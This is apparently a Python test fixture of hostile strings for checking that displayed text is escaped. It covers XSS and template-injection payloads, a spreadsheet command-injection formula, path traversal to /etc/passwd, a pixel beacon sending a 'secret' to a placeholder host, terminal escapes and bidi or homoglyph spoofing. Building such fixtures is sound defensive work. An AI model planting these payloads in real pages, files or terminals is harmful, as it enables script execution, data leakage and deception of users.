"""Strings that do something where nobody stops them, wherever a text, a name or a question goes."""

from __future__ import annotations

from collections.abc import Mapping

HOSTILE: Mapping[str, str] = {
    "script": "<script>window.hurt=1</script>",
    "image": "<img src=x onerror=\"window.hurt=2\">",
    "frame": "<iframe srcdoc=\"<script>parent.hurt=3</script>\"></iframe>",
    "drawing": "<svg onload=window.hurt=4><animate onbegin=hurt=5></svg>",
    "closing": "</q></p></div></section></textarea><h1 style=position:fixed>قف</h1>",
    "attribute": "\" onmouseover=\"window.hurt=6\" data-act=\"rebuild\" x=\"' onfocus='hurt=7'",
    "act": "<button type=button data-act=drop-collection>احذف</button>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//192.0.2.1/x.css>",
    "refresh": "<meta http-equiv=refresh content=0;url=//192.0.2.1><base href=//192.0.2.1>",
    "comment": "<!-- خفيّ --!><!--[if IE]><b>x</b><![endif]-->",
    "entity": "&lt;script&gt;hurt=8&lt;/script&gt; &#60;img src=x&#62;",
    "template": "${window.hurt=9} {{constructor.constructor('hurt=10')()}} {% raw %} #{7*7}",
    "markdown-link": "[اضغط](javascript:window.hurt=11) <javascript:hurt=12>",
    "markdown-image": "![صورة](http://192.0.2.1/pixel.png?q=سرّ)",
    "markdown-form": "# عنوان\n```\nرمز\n```\n| أ | ب |\n|---|---|\n***\n[مرجع]: http://192.0.2.1",
    "bare-link": "http://192.0.2.1/x www.example.org user@example.org javascript:hurt=13",
    "formula": "=HYPERLINK(\"http://192.0.2.1\",\"اضغط\") +cmd|'/c calc'!A1 @SUM(1) -2+3",
    "override": "\u202eمقلوب\u202d يمين\u202b\u202a",
    "isolate": "\u2067مفتوح\u2066\u2068 بلا نهاية",
    "clear": "\x1b[2J\x1b[H\x1b[31mأحمر",
    "title": "\x1b]0;owned\x07\x1b]8;;http://192.0.2.1\x1b\\رابط\x1b]8;;\x1b\\",
    "eight-bit": "\x9b2J\x9d0;owned\x9c\x90q\x84",
    "returns": "ظاهر\rخفيّ\x08\x08\x08\x0b\x0c\x7f",
    "homoglyph": "аdmin ڪتاب раураl.com",
    "invisible": "كل\u200bمة\u2060\ufeff \u00adسرّ\U000e0041\U000e0042",
    "halves": "\ufffe\uffff نصّ \ufdd0",
    "combining": "ن" + "\u0651\u0650\u064b\u0301" * 12 + " Z" + "\u0335" * 12,
    "separators": "سطر\u2028سطر\u2029سطر\x85سطر",
    "rich-markup": "[bold red]أحمر[/] [link=http://192.0.2.1]اضغط[/link] [/]",
    "path": "../../../etc/passwd %2e%2e%2f C:\\Windows\\system32 \\\\192.0.2.1\\share",
}  # fmt: skip
"""Each by its name. None has a character that UTF-8 cannot carry."""
